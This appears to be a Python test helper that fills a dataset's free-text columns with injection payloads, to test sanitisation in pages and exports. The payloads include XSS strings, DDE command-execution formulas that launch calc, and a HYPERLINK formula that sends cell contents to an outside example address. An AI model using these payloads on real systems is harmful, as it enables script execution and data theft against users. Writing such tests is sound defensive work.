"""Texts that do harm where text is taken for something else, and a copy of the data filled with them."""

import re

from caspian.data.references import names
from tests.damage import Copy

LONG = "long" * 5_000
"""Twenty thousand characters without a space."""

OUTSIDE = "http://203.0.113.7"
"""An address that a page must never ask (of a range kept free for examples)."""

PAYLOADS = (
    '<img src=x onerror="window.harm=1"> & <b onmouseover=window.harm=2>bold</b>',
    "<script>window.harm=3</script><svg onload=window.harm=4>",
    "javascript:window.harm=5",
    "[click](javascript:window.harm=6) [out](http://203.0.113.7/a)",
    f"![picture]({OUTSIDE}/picture.png) <link rel=stylesheet href={OUTSIDE}/style.css>",
    f'=HYPERLINK("{OUTSIDE}/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "**bold** _it_ # head :red[red] :material/home: $x^2$ | a | `b` ~~c~~ > q",
    "{country} {0.__class__} %s %(name)s %{x} <extra></extra> <br>",
    "</textarea></title></style>\\ 'single' \"double\"",
)
"""What a validator takes: it refuses control characters, signs that nobody sees, and links that are not of the web."""

REFUSED = ("bell \x07", "javascript:alert(1)", "ftp://example.org/x", "//example.org")
"""What no copy of the data can hold as a link."""


def fill(data: Copy) -> int:
    """Put a payload into every cell of every column of free text; how many columns that were.

    Each is followed by a number, so that keys that hold a title stay unique. One title is very long.
    """
    columns = 0
    described: list[dict] = []
    data.change_description(lambda tables: described.extend(tables.values()))
    for table in described:
        if "schema" not in table:
            continue
        rows = data.rows(table["path"])
        free = [place for place, name in enumerate(rows[0]) if _is_free(table, name)]
        for line, row in enumerate(rows[1:]):
            for place in free:
                text = PAYLOADS[(line + place) % len(PAYLOADS)]
                row[place] = f"{text} {line}".replace(";", ",") if row[place] or line % 3 else ""
        if table["name"] == "sources":
            rows[1][rows[0].index("title")] = LONG
        if table["name"] == "projects":
            rows[1][rows[0].index("summary_en")] = LONG
        data.write_rows(table["path"], rows)
        columns += len(free)
    return columns


def _is_free(table: dict, column: str) -> bool:
    """Whether a column holds text of any sort: no code, no key of another table, no pattern to keep to."""
    field = next(field for field in table["schema"]["fields"] if field["name"] == column)
    constraints = field.get("constraints", {})
    points = any(names(key["fields"]) == (column,) for key in table["schema"].get("foreignKeys", ()))
    bound = points or "caspian:terms" in field or isinstance(field.get("caspian:list"), dict)
    return field["type"] == "string" and not bound and not {"pattern", "enum"} & set(constraints)


def marks(text: str) -> str:
    """A payload as a page writes it: on one line."""
    return re.sub(r"\s+", " ", text).strip()
